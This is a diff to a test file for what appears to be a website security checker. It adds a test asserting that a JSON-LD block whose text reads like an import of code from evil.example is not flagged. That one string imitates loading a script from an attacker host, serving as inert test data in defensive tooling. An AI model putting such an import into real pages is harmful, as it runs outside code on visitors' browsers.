@@ -72,6 +72,11 @@ test.each([
   ['foreign-origin', site('', { 'style.css': '@import url(https://fonts.example.com/a.css);' })],
 ])('%s is found in a whole site', (rule, files) => expect(rulesOf(files)).toEqual([rule]));
 
+test('JSON-LD is data: what looks like code in it is no finding', () => {
+  const data = `<script type="application/ld+json">{"@context":"https://schema.org","name":"import('https://evil.example/x.js')"}</script>`;
+  expect(checkSite(site(data))).toEqual([]);
+});
+
 test('scripts, forms and refreshes on the site itself are no finding', () => {
   const body = `<form method="post" action="/_forms/contact"><button>Send</button></form><meta http-equiv="refresh" content="5; url=/about">
     <script type="module">import './app.js'; fetch('/data.json'); navigator.sendBeacon('/api/collect'); const from = "https://example.com";</script>`;
